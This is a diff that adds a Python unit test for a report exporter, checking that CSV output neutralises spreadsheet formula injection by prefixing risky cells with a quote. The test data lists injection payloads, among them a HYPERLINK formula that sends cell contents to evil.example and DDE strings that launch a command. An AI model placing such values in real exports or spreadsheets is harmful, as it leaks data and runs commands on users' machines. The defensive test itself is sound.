@@ -151,6 +151,29 @@ def test_csv_quotes_per_rfc4180_and_round_trips() -> None:
     assert len(parsed) == 2
 
 
+def test_csv_escapes_text_cells_a_spreadsheet_would_run_as_formulas() -> None:
+    # values a vendor controls (interaction ids, queue names, account ids) reach the report
+    formulas = {
+        "interaction_id": '=HYPERLINK("http://evil.example/"&A1,"open")',
+        "queue": "+1+cmd|' /C calc'!A0",
+        "account_id": "-2+3",
+        "transferred_from": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "transferred_to": "\t=1+1",
+        "vendor": "\r=1+1",
+    }
+    session = {"id": "s9", "handle_ms": 0, "focus_ms": 1500, "outcome": "completed", **formulas}
+    session["account"] = {"id": formulas["account_id"]}
+    parsed = list(csv.reader(io.StringIO(to_csv([report_row(session)]), newline="")))
+    cells = dict(zip(REPORT_COLUMNS, parsed[1], strict=True))
+    for column, value in formulas.items():
+        assert cells[column] == "'" + value, column
+    # numbers and harmless text are written as they are
+    assert (cells["session_id"], cells["handle_ms"], cells["focus_ms"]) == ("s9", "0", "1500")
+    assert cells["outcome"] == "completed"
+    # the JSON report keeps the values untouched
+    assert to_json([report_row(session)])[0]["queue"] == formulas["queue"]
+
+
 def test_csv_of_no_rows_is_the_header_alone() -> None:
     assert to_csv([]) == HEADER + "\r\n"
 
